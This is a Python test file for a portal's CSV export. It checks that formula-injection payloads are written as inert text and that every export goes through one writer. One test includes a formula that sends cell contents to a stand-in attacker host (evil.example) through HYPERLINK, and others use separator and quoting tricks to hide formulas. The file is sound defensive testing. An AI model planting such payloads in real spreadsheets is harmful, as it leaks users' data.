"""The one CSV writer of every export: nothing it writes is a formula to any spreadsheet that opens it.

Each export's own test plants :data:`tests.helpers.FORMULA_PAYLOADS` in what it exports and reads
the file back with :func:`tests.helpers.formulas_in`; here is the writer's rule, and the check that
no export writes CSV any other way.
"""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Sequence
from decimal import Decimal
from pathlib import Path

import pytest

from portal.csv_export import csv_lines, neutralise
from tests.helpers import FORMULA_PAYLOADS, formulas_in

ROOT = Path(__file__).resolve().parent.parent
# The packages of the portal's own code (tests, benchmarks and tooling write CSV files of their own).
APPS = [
    "access",
    "approvals",
    "costs",
    "deployments",
    "environments",
    "notifications",
    "portal",
    "providers",
    "regions",
    "workflows",
]
WRITER = ROOT / "portal" / "csv_export.py"


def exported(*rows: Sequence[object]) -> str:
    return "".join(csv_lines(["name", "amount"], rows))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\0"])
def test_a_cell_starting_with_a_formula_character_is_written_as_text(start: str) -> None:
    assert neutralise(f"{start}HYPERLINK(1)") == f"'{start}HYPERLINK(1)"


@pytest.mark.parametrize("separator", [";", ",", "\t", "\r", "\n", "\r\n"])
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_formula_behind_something_a_spreadsheet_reads_as_a_new_cell_is_written_as_text(
    separator: str, start: str
) -> None:
    assert neutralise(f"x{separator}{start}SUM(1)") == f"x{separator}'{start}SUM(1)"


def test_the_locale_trick_of_the_team_costs_export_is_text_in_every_locale() -> None:
    text = exported(['x;=HYPERLINK("https://evil.example/?leak="&A1)', Decimal("12.50")])

    assert formulas_in(text) == []
    assert next(csv.reader(io.StringIO(text.splitlines()[1])))[0] == 'x;\'=HYPERLINK("https://evil.example/?leak="&A1)'


@pytest.mark.parametrize("hidden", ["x; =1+1", 'x;"=1+1"', 'x, "+1+1"', "  =1+1", '"=1+1"'])
def test_spaces_and_quotes_do_not_hide_a_formula(hidden: str) -> None:
    assert formulas_in(exported([hidden, 1])) == []
    assert "'" in neutralise(hidden)


def test_every_planted_payload_is_text_to_every_reader() -> None:
    text = exported(*([payload, payload] for payload in FORMULA_PAYLOADS))

    assert formulas_in(text) == []
    assert len(list(csv.reader(io.StringIO(text, newline="")))) == 1 + len(FORMULA_PAYLOADS)


@pytest.mark.parametrize("number", [Decimal("-12.50"), -3, Decimal("-1E+3"), -0.25, Decimal("0.0001"), 0])
def test_a_number_stays_a_number_a_spreadsheet_can_add_up(number: object) -> None:
    assert neutralise(number) == str(number)
    assert formulas_in(exported(["refund", number])) == []


@pytest.mark.parametrize("not_a_number", [Decimal("-Infinity"), float("-inf"), Decimal("NaN"), True])
def test_what_is_not_a_finite_number_is_written_as_text(not_a_number: object) -> None:
    assert formulas_in(exported(["odd", not_a_number])) == []


def test_text_that_looks_like_a_number_is_text_and_neutralised_like_any_text() -> None:
    assert neutralise("-2") == "'-2"
    assert neutralise("1,-2;+3") == "1,'-2;'+3"
    assert neutralise("x;-2+3") == "x;'-2+3"


@pytest.mark.parametrize(
    "plain",
    ["Checkout API", "", "2026-11-21T09:00:00+00:00", "a-b c=d", "me@example.com", "x; y", "'=already text"],
)
def test_ordinary_text_is_left_as_it_is(plain: str) -> None:
    assert neutralise(plain) == plain


def test_nothing_is_written_as_none_and_the_header_goes_through_the_same_rule() -> None:
    assert neutralise(None) == ""
    assert "".join(csv_lines(["=bad header"], [])) == "'=bad header\r\n"


def _csv_writers_and_csv_content_types(path: Path) -> list[str]:
    """Where ``path`` builds CSV itself: a ``csv.writer`` / ``csv.DictWriter`` call or a ``text/csv`` response."""
    found = []
    for node in ast.walk(ast.parse(path.read_text(), filename=str(path))):
        if (
            isinstance(node, ast.Attribute)
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
            and node.attr in {"writer", "DictWriter"}
        ):
            found.append(f"{path.relative_to(ROOT)}:{node.lineno} csv.{node.attr}")
        if isinstance(node, ast.keyword) and node.arg == "content_type":
            value = node.value
            if isinstance(value, ast.Constant) and isinstance(value.value, str) and "csv" in value.value:
                found.append(f"{path.relative_to(ROOT)}:{node.lineno} content_type={value.value!r}")
    return found


def test_every_export_writes_csv_through_the_one_writer() -> None:
    sources = [path for app in APPS for path in sorted((ROOT / app).rglob("*.py")) if path != WRITER]

    elsewhere = [place for path in sources for place in _csv_writers_and_csv_content_types(path)]

    assert elsewhere == [], "CSV written outside portal/csv_export.py:\n  " + "\n  ".join(elsewhere)
    assert [place.split()[-1] for place in _csv_writers_and_csv_content_types(WRITER)] == ["csv.writer"]
